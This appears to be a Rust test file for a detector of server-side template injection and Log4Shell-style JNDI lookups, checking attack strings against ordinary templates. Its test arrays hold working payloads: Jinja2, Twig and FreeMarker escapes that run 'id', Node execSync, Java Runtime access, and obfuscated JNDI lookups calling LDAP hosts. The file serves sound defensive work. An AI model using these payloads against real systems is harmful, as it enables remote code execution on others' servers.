//! Attacks and ordinary templates.

use super::detect;
use crate::detect::{ByteSet, Hits, Text};

/// The rules that a text meets, and their sum.
fn met(text: &str) -> (u16, Vec<&'static str>) {
    let lower = text.to_ascii_lowercase();
    let mut hits = Hits::default();
    let bytes = ByteSet::of(text.as_bytes());
    detect(Text { raw: text.as_bytes(), lower: lower.as_bytes(), bytes }, &mut hits);
    (hits.list().iter().map(|hit| hit.rule.score).sum(), hits.list().iter().map(|hit| hit.rule.id).collect())
}

#[test]
fn each_rule_has_an_attack_that_meets_it() {
    let attacks = [
        ("template-arithmetic", "{{7*7}}"),
        ("template-python-object", "{{ x.__class__ }}"),
        ("template-java-object", "${T(java.lang.System).exit(1)}"),
        ("template-php-object", "{{_self.env}}"),
        ("template-ruby-call", "<%= File.read('/etc/hosts') %>"),
        ("template-script-constructor", "{{constructor.constructor('x')()}}"),
        ("template-engine-secret", "{{ settings.SECRET_KEY }}"),
        ("template-directive", "<#assign x=1>"),
        ("template-probe", "${{<%[%'\"}}%\\"),
        ("template-jndi-lookup", "${jndi:ldap://203.0.113.9/a}"),
    ];
    for (rule, attack) in attacks {
        assert!(met(attack).1.contains(&rule), "{attack:?} meets {:?}", met(attack).1);
    }
    for rule in super::RULES {
        assert!(attacks.iter().any(|(id, _)| *id == rule.id), "{} has no attack here", rule.id);
    }
}

#[test]
fn expressions_that_reach_out_are_attacks() {
    let attacks = [
        "${7*7}",
        "#{7*7}",
        "*{7*7}",
        "@(7*7)",
        "<%= 7*7 %>",
        "${{7*7}}",
        "{{7*'7'}}",
        "{{ 49 + 1 }}",
        "{7*7}",
        "[[${7*7}]]",
        "{%print(7*7)%}",
        "Hello {{13*37}}!",
        "~{7*7}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ lipsum.__globals__ }}",
        "{{request|attr('x')}}",
        "{{config}}",
        "{{config.items()}}",
        "{{ self }}",
        "{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}",
        "{% import os %}{{ os.system('id') }}",
        "${\"\".getClass().forName('java.lang.Runtime')}",
        "#{T(java.lang.Runtime)}",
        "*{T(org.apache.commons.io.IOUtils)}",
        "${pageContext.request}",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex('id')}",
        "#set($x='')$x.class.forName('java.lang.Runtime')",
        "{{_self.env.registerUndefinedFilterCallback('exec')}}",
        "{{['id']|filter('system')}}",
        "{{app.request.server.all|join(',')}}",
        "{$smarty.version}",
        "{php}echo 1;{/php}",
        "{system('id')}",
        "<%= system('id') %>",
        "<%= `id` %>",
        "#{`id`}",
        "#{IO.popen('id').read}",
        "<%= Dir.entries('/') %>",
        "{{ $on.constructor('alert(1)')() }}",
        "{{x=valueOf.name.constructor.fromCharCode}}",
        "${global.process.mainModule.require('child_process').execSync('id')}",
        "{{#with \"s\" as |string|}}",
        "@(System.Diagnostics.Process.Start(\"cmd\"))",
        "{{ messages.storages.0.signer.key }}",
        "${jndi:${lower:l}${lower:d}ap://h/a}",
        "${${lower:j}ndi:ldap://h}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://h}",
        "${${env:NaN:-j}ndi${env:NaN:-:}ldap://h}",
        "${j${k8s:k5:-ND}i:ldap://h}",
        "${jnd${upper:\u{131}}:ldap://h}",
        "%{jndi:dns://h}",
        "${${date:'j'}ndi:ldap://h}",
        "${${:-${:-j}}ndi:x}",
        "user-agent: ${JNDI:LDAP://h}",
    ];
    let missed: Vec<_> = attacks.into_iter().filter(|attack| met(attack).0 < 5).collect();
    assert!(missed.is_empty(), "not found: {missed:#?}");
}

#[test]
fn ordinary_templates_are_none() {
    let texts = [
        "Hello {{ name }}",
        "{{ user.firstName }} has {{ count }} items",
        "{{ \"now\" | date: \"%Y\" }}",
        "{{ price | times: 2 }}",
        "${amount} of ${total}",
        "${VAR:-default}",
        "${HOME}/bin:${PATH}",
        "{% for x in list %}{{ x }}{% endfor %}",
        "{% include \"header.html\" %}",
        "<%= yield %>",
        "<%= link_to 'Home', root_path %>",
        "#{name}",
        "@{color}",
        "${{ secrets.TOKEN }}",
        "{{ .Values.image.tag }}",
        "{{#if user}}Hi{{/if}}",
        "`/api/${id}?full=1`",
        "{0} of {1}",
        "%d{HH:mm:ss} [%t] %-5level",
        "\\frac{a}{b}",
        "if (x) { y = a * b; }",
        "{ \"a\": 1 }",
        "[[1,2],[3,4]]",
        "{{a},{b}}",
        "f\"{x:>10}\"",
        "self.__class__.__name__",
        "if __name__ == '__main__':",
        "public class X { int a = 2 * 3; }",
        "java.lang.NullPointerException at java.lang.Thread.run(Thread.java:748)",
        "$scope.items",
        "th:text=\"${user.name}\"",
        "${project.version}",
        "x = {1: 2}",
        "{1,2,3}",
        "@media (min-width: 600px) { a { color: red } }",
        "the ${server.port} property",
        "2026-05-10",
        "{{ date('Y-m-d') }}",
    ];
    let found: Vec<_> =
        texts.into_iter().filter(|text| met(text).0 >= 5).map(|text| (text, met(text).1)).collect();
    assert!(found.is_empty(), "found: {found:#?}");
}

/// What stands before a payload is the attacker's to choose, and so is its length.
#[test]
fn padding_hides_nothing() {
    let attacks = [
        format!("{{{{ '{}' ~ x.__class__ }}}}", "a".repeat(20_000)),
        format!("{}{{{{7*7}}}}", "{{".repeat(200)),
        format!("{}${{jndi:ldap://h}}", "${".repeat(200)),
        format!("${{${{env:{}:-j}}ndi:ldap://h}}", "a".repeat(1_000)),
        format!("{}{{{{config}}}}", "x".repeat(100_000)),
    ];
    let missed: Vec<_> = attacks.iter().filter(|attack| met(attack).0 < 5).map(|text| text.len()).collect();
    assert!(missed.is_empty(), "not found, by their lengths: {missed:?}");
}

#[test]
fn huge_texts_are_read_in_linear_time() {
    for piece in ["{{", "${", "${a:", "${${", "}", "<%", "{{x}}", "${:-", "{%", "{{ (", "${a${b:-"] {
        let _ = met(&piece.repeat(400_000 / piece.len()));
    }
}
